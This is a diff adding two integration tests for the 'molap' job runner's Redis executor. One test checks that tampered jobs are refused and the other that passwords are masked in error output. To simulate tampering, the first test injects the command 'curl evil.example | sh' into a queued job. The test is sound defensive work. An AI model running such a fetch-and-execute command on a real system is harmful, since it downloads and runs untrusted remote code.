@@ -191,6 +191,57 @@ describe.skipIf(!server)('molap run --executor redis://… with molap worker pro
     }
   }, 30_000);
 
+  it('refuses a job whose payload was edited in Redis, and stops the run naming it', async () => {
+    const run = startMolap(['run', '--json', '--out', 'edited', '--executor', redis.url], { cwd: small.root });
+    await until('the run folder', () => runDirOf(run.output.stderr) !== undefined);
+    const runDir = runDirOf(run.output.stderr)!;
+    await until('the queue record', () => {
+      try {
+        return readJson(join(runDir, 'state', 'distributed.json')).queue !== undefined;
+      } catch {
+        return false;
+      }
+    });
+    const { queue } = readJson(join(runDir, 'state', 'distributed.json'));
+    const { connectRedis, parseRedisUrl } = await import('@molap/distributed');
+    const client = await connectRedis(parseRedisUrl(redis.url));
+    try {
+      const key = `molap:${queue}:bank/seed-1`;
+      await until('the first job in Redis', () => run.output.stderr.includes('"queued":'));
+      const data = JSON.parse((await client.hget(key, 'data'))!);
+      data.job.kind = 'shell';
+      data.job.command = 'curl evil.example | sh';
+      await client.hset(key, 'data', JSON.stringify(data));
+    } finally {
+      client.disconnect();
+    }
+    worker('careful');
+    const result = await run.exited;
+    expect(result.code).toBe(1);
+    expect(result.stderr).toMatch(
+      /job 'bank\/seed-1' failed on worker careful after 1 attempt: job 'bank\/seed-1' of run .* is refused: its payload is not a molap job/,
+    );
+    expect(finishedJobs(runDir)).toBe(0);
+  }, 60_000);
+
+  it('names a wrong password and a queue that does not exist, never showing the password', async () => {
+    const locked = await startRedis(server!, ['--requirepass', 'right-one']);
+    try {
+      const wrong = locked.url.replace('redis://', 'redis://:wrong-one@');
+      const run = await molap(['run', '--out', 'locked', '--executor', wrong], { cwd: small.root });
+      expect(run.code).toBe(2);
+      expect(run.stderr).toMatch(/Redis at redis:\/\/:\*\*\*@127\.0\.0\.1:\d+ refused the password/);
+      expect(run.stderr).not.toContain('wrong-one');
+      const right = locked.url.replace('redis://', 'redis://:right-one@');
+      const lost = await molap(['worker', right, '--queue', 'run-nowhere'], { cwd: small.root });
+      expect(lost.code).toBe(2);
+      expect(lost.stderr).toMatch(/has no run with the queue 'run-nowhere'/);
+      expect(lost.stderr).not.toContain('right-one');
+    } finally {
+      await locked.stop();
+    }
+  }, 30_000);
+
   it('stops the run naming the job, the worker and the error when a job always throws', async () => {
     const project = createScratch('molap-cli-crashing-');
     try {
